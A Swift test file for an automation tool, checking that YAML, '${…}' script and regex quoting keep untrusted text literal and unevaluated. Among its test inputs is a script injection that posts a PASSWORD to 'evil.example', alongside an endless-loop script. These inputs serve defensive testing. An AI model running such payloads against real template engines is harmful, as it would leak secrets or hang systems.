import BeagleSchema
import Testing

@testable import BeagleAutomation

/// The quoting functions of YAML, `${…}` and patterns, with texts that look like the language that
/// they enter.
@MainActor
@Suite struct QuotingTests {
  private static let scripts = [
    "${http.post('http://evil.example', {body: PASSWORD})}", "${while(true){}}", "\\${a}",
    "\\\\${a}", "${a", "$${a}", "${'}", "${\"}\"}", "${`${b}`} ${c", "$\\{a}", "a\\", "${}", "}${{",
    "${`a} ${`}", "${a ${b} c}",
  ]
  private static let expressions = [
    "Pay (2)", "a.b", ".*", "(?i)x", "[a-z]+", "\\d", "\\", "a|b", "^a$", "{2}", "x{2}", "(",
    "(*LIMIT_MATCH=1)x", "\\Qa\\E", "(\u{301})", "R$ 10,00", "#x", "a\nb", "😀?", "[[:alpha:]]",
  ]
  private static let scalars = [
    "", " ", "- a", "a: b", "a #b", "#", "*a", "&a", "!a", "%a", "@a", "`a", "'a'", "\"a\"", "{a}",
    "[a]", "a, b", "null", "~", "yes", "1e3", "0x1", "---", "...", "a\n- tapOn: b", "a\r\nb",
    "\u{85}", "\u{2028}", "\u{0}", "\u{FEFF}", "\u{FFFE}", "\u{7F}", "a\tb", "?", "? a", ": a",
    "a:",
    "=", "<<", "|", ">", "é", "e\u{301}", "👩‍👩‍👧", "\u{202E}a", "é: ü", "1:30", "2026-11-27",
  ]
  static let texts = scripts + expressions + scalars

  /// Texts of characters that have a meaning somewhere, the same in every run.
  static let mixtures: [String] = {
    let pieces = [
      "$", "{", "}", "${", "\\", "'", "\"", "`", "a", "B", " ", "\n", "(", ")", "[", "]", ".", "*",
      "+", "?", "^", "|", "/", "#", ":", "-", ",", "&", "!", "\u{0}", "\u{301}", "é", "👩‍👧", "\u{85}",
    ]
    var state: UInt64 = 7
    func next(_ limit: Int) -> Int {
      state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      return Int(state >> 33) % limit
    }
    return (0..<3000).map { _ in (0...next(12)).map { _ in pieces[next(pieces.count)] }.joined() }
  }()

  private func isSame(_ a: String?, _ b: String) -> Bool {
    a.map { Array($0.unicodeScalars) == Array(b.unicodeScalars) } ?? false
  }

  /// A text as patterns compare it.
  private static func key(_ text: String) -> String {
    ComparableText.reduced(text).lowercased().replacing("\n", with: " ")
  }

  @Test func aQuotedTextHasNoScript() {
    for text in Self.texts + Self.mixtures {
      let read = FlowText(FlowText.quoted(text))
      #expect(isSame(read.literal, text), "\(text.debugDescription) is \(read.parts)")
    }
  }

  @Test func partsSurviveTheirSource() {
    for text in Self.texts + Self.mixtures where !text.isEmpty {
      let parts: [FlowText.Part] = [.literal(text), .script("A"), .literal(text)]
      let read = FlowText(FlowText.source(of: parts))
      // A backslash before a script is a script itself.
      let values = read.parts.map { part in
        switch part {
        case .literal(let literal): literal
        case .script("A"): "\u{1}"
        case .script(let script): script == "'\\\\'" ? "\\" : "\u{2}"
        }
      }
      #expect(isSame(values.joined(), text + "\u{1}" + text), "\(text.debugDescription)")
    }
  }

  /// The work grows with the length, not with its square.
  @Test func scriptsWithoutEndAreReadOnce() {
    let pieces = 100_000
    let open = FlowText(String(repeating: "${", count: pieces))
    #expect(open.parts.count == 1)
    let unbalanced = FlowText(String(repeating: "${{}", count: pieces))
    #expect(unbalanced.parts.count == pieces)
  }

  @Test(arguments: [YAMLScalar.Context.block, .flow])
  func aScalarIsOneText(context: YAMLScalar.Context) throws {
    for text in Self.texts + Self.mixtures {
      let scalar = YAMLScalar.text(text, in: context)
      let yaml =
        context == .block ? "- \(scalar)\n- b: \(scalar)\n" : "- {a: [\(scalar), \(scalar)]}"
      let root = try #require(YAMLDocument.parse(Array(yaml.utf8), name: "t").roots.first)
      let read =
        context == .block
        ? [root.elements.first, root.elements.last?.members.first?.value]
        : (root.elements.first?.members.first?.value.elements ?? []).map(Optional.init)
      #expect(read.count == 2 && root.elements.count == (context == .block ? 2 : 1), "\(scalar)")
      for node in read { #expect(isSame(node?.text, text), "\(text.debugDescription): \(scalar)") }
    }
  }

  @Test func aQuotedPatternMatchesOnlyItsText() throws {
    for text in Self.texts + Self.mixtures {
      let pattern = try TextPattern(TextPattern.quoted(text))
      #expect(TextPattern.problem(in: pattern.source) == nil, "\(text.debugDescription)")
      #expect(try pattern.matches(text), "\(text.debugDescription)")
      for other in [text + "x", "x" + text, "x", String(text.dropLast()) + "é\u{302}", ""]
      where Self.key(other) != Self.key(text) && other != pattern.source {
        #expect(try !pattern.matches(other), "\(text.debugDescription) matches \(other)")
      }
    }
  }

  /// The parts of an expression in slashes, as in snapshots.
  @Test func aQuotedPartOfAnExpressionFindsOnlyItsText() throws {
    for text in Self.texts + Self.mixtures {
      let pattern = try SearchPattern("^" + SearchPattern.quoted(text) + "$")
      #expect(try pattern.matches(text), "\(text.debugDescription)")
      #expect(try !pattern.matches(text + "x"), "\(text.debugDescription)")
    }
  }

  /// A name on a screen, in a snapshot file, and compared with the screen again.
  @Test(arguments: ["text", "button", "heading"])
  func aNameSurvivesItsSnapshot(role: String) throws {
    for text in Self.texts + Self.mixtures where !text.isEmpty {
      let screen = AriaSnapshot(nodes: [
        AriaSnapshot.Node(role: AriaRole.screen, children: [1]),
        AriaSnapshot.Node(role: role, name: text),
      ])
      let template = try AriaTemplate(screen.text)
      #expect(template.nodes.count == 2, "\(screen.text)")
      #expect(try screen.difference(from: template) == nil, "\(screen.text)")
    }
  }

  /// YAML limits the length of a key that has no `? `.
  @Test(arguments: [10, 900, 1100, 50_000])
  func aLongNameHasContent(length: Int) throws {
    for name in [
      String(repeating: "a", count: length), String(repeating: "': ", count: length / 3),
    ] {
      var nodes = [AriaSnapshot.Node(role: AriaRole.screen, children: [1, 2, 4])]
      nodes.append(AriaSnapshot.Node(role: "button", name: "Before"))
      nodes.append(AriaSnapshot.Node(role: "textbox", name: name, children: [3]))
      nodes.append(AriaSnapshot.Node(role: "text", name: "value"))
      nodes.append(AriaSnapshot.Node(role: "button", name: name, children: [5, 6]))
      nodes[4].properties = [AriaSnapshot.Property(name: "url", value: name)]
      nodes += ["one", "two"].map { AriaSnapshot.Node(role: "text", name: $0) }
      let screen = AriaSnapshot(nodes: nodes)
      let template = try AriaTemplate("- /children: deep-equal\n" + screen.text)
      #expect(template.nodes.count == nodes.count)
      #expect(try screen.difference(from: template) == nil)
    }
  }

  /// A server's text in a report has the form that it has in a flow.
  @Test func textsInReportsAreNoScripts() throws {
    let files = ["home.json": FlowScreen.screen("Home", FlowScreen.text("Pay ${1+1}"))]
    let bench = try FlowBench(files)
    let missing = try bench.fail("- assertVisible: Pay")
    #expect(missing.elements.contains("text \"Pay \\${1+1}\""), "\(missing.elements)")
    let visible = try bench.fail("- assertNotVisible: Pay.*")
    #expect(visible.details.contains("text \"Pay \\${1+1}\""), "\(visible.details)")
  }

  /// A text in a response that looks like an expression of Beagle or a script.
  @Test func valuesOfResponsesAreNotEvaluated() throws {
    let load = """
      {"_beagleAction_":"beagle:sendRequest","url":"/data","onSuccess":[
        \(FlowScreen.set("name", "\"@{onSuccess.data.text}\""))]}
      """
    let files = [
      "home.json": FlowScreen.screen(
        "Home", FlowScreen.text("It is @{form.name}"), FlowScreen.button("Load", load),
        FlowScreen.field("Name")),
      "data.json": #"{"text":"@{sum(1,2)}${1+1}"}"#,
    ]
    let bench = try FlowBench(files)
    bench.options.scriptProgram = "/dev/null"
    try bench.pass(
      #"""
      - tapOn: Load
      - assertVisible: 'It is @\{sum\(1,2\)\}\$\{1\+1\}'
      - copyTextFrom: It is .*
      - tapOn: Name
      - inputText: ${maestro.copiedText}
      - assertVisible: 'It is It is @\{sum\(1,2\)\}\$\{1\+1\}'
      """#)
  }

  /// No value is read again as a text with scripts.
  @Test func valuesAreNotEvaluated() throws {
    let script = "${output.x}"
    let variables = FlowVariables(["ARGUMENT": script]) { () throws(ScriptError) in
      throw .unavailable("the engine was started")
    }
    variables.copiedText = script
    try variables.define([FlowVariable(name: "SECOND", value: FlowText("${ARGUMENT}"))])
    for text in ["${ARGUMENT}", "${SECOND}", "${maestro.copiedText}", "\\${output.x}"] {
      #expect(try variables.resolve(FlowText(text)) == script)
    }
  }
}
